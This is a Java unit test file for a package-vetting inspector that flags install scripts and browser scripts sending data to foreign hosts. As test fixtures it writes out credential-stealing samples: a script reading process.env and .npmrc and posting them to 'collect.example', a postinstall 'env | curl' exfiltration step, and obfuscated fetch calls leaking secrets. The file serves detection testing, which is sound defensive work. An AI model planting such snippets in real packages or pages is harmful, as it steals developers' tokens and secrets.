package lazaret.vetting.inspect;

import static lazaret.vetting.inspect.InspectionFixture.demo;
import static lazaret.vetting.inspect.InspectionFixture.inspect;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import lazaret.testkit.CrateBuilder;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/// Packages of other languages in a crate, and pages for browsers, by their installation steps and
/// the servers they contact. Nothing here is ever run.
final class CarriedPackageTest {
  private static final String THIEF_SCRIPT =
      """
      const k = process.env; const t = fs.readFileSync(h + '/.npmrc');
      https.request({host: 'collect.example'}).end(JSON.stringify([k, t]));
      """;

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        "web/package.json|`{\"scripts\": {\"preinstall\": \"node scripts/prepare.js\"}}`",
        "web/package.json|`{\"scripts\": {\"postinstall\": \"node ./scripts/prepare\"}}`",
        "package.json|`{\"scripts\": {\"setup\": \"node web/scripts/prepare.js\", \"install\": \"npm run setup\"}}`",
        "web/package.json|`{\"scripts\": {\"\\u0070repare\": \"cd scripts && node prepare.js\"}}`",
        "web/composer.json|`{\"scripts\": {\"post-install-cmd\": [\"node scripts/prepare.js\"]}}`",
      })
  void aStepOfAnInstallThatSendsSecretsIsHigh(String path, String steps) {
    CrateBuilder crate = demo().file(path, steps).file("web/scripts/prepare.js", THIEF_SCRIPT);
    assertThat(high(crate)).contains("script-conduct");
  }

  @Test
  void aStepOfAnInstallIsReadItself() {
    String steps = "{\"scripts\": {\"postinstall\": \"env | curl -d @- http://collect.example\"}}";
    assertThat(high(demo().file("web/package.json", steps))).contains("script-conduct");
    assertThat(
            shown(
                demo().file("web/package.json", steps.replace("postinstall", "test")),
                SignalWeight.REVIEW))
        .isEmpty();
    assertThat(
            shown(
                demo().file("web/package.json", "{\"scripts\": {\"prepare\": \"husky install\"}}"),
                SignalWeight.REVIEW))
        .isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "fetch('/api/session', {credentials: 'same-origin', headers: {'x-csrf_token': t}});",
        "const s = csrf_token(); fetch(`/api/${id}`, {headers: {a: s}}); // see https://docs.example/x",
        "function a(e,t){return fetch(e,{credentials:\"same-origin\",headers:{csrf_token:t}})}a(\"/x\")",
        "var r=new XMLHttpRequest;r.open('POST','/api');r.setRequestHeader('access_token',t);",
        "const n='http://www.w3.org/2000/svg';fetch(u+'/v1',{headers:{secret:s}})",
      })
  void aPageThatAsksItsServerIsNoFinding(String script) {
    assertThat(
            shown(demo().file("assets/app.js", script), SignalWeight.NOTE).stream()
                .filter("script-conduct"::equals))
        .isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "fetch('https://collect.example/x', {credentials: 'same-origin', headers: {secret: t}});",
        "fetch('//collect.example/x', {headers: {secret: t}});",
        "const u = 'ht' + 'tps://' + h; fetch(u, {headers: {secret: t}});",
        "fetch('/api', {}); fetch('https://collect.example', {body: secret});",
        "const h = 'collect.example'; fetch(location.protocol + '/' + '/' + h, {body: secret});",
        "fetch(String.fromCharCode(104, 116) + x, {body: secret});",
        "fetch('/\\\\collect.example', {body: secret});",
        "const fs = require('fs'); fetch(u, {body: process.env});",
        "fetch('\\x2f\\x2fcollect', {body: secret});",
      })
  void aPageThatAsksOthersIsOne(String script) {
    assertThat(shown(demo().file("assets/app.js", script), SignalWeight.REVIEW))
        .contains("script-conduct");
  }

  private static List<String> high(CrateBuilder crate) {
    return shown(crate, SignalWeight.HIGH);
  }

  private static List<String> shown(CrateBuilder crate, SignalWeight least) {
    return inspect(crate).signals().stream()
        .filter(signal -> signal.weight().compareTo(least) >= 0)
        .map(signal -> signal.code().code())
        .distinct()
        .toList();
  }
}
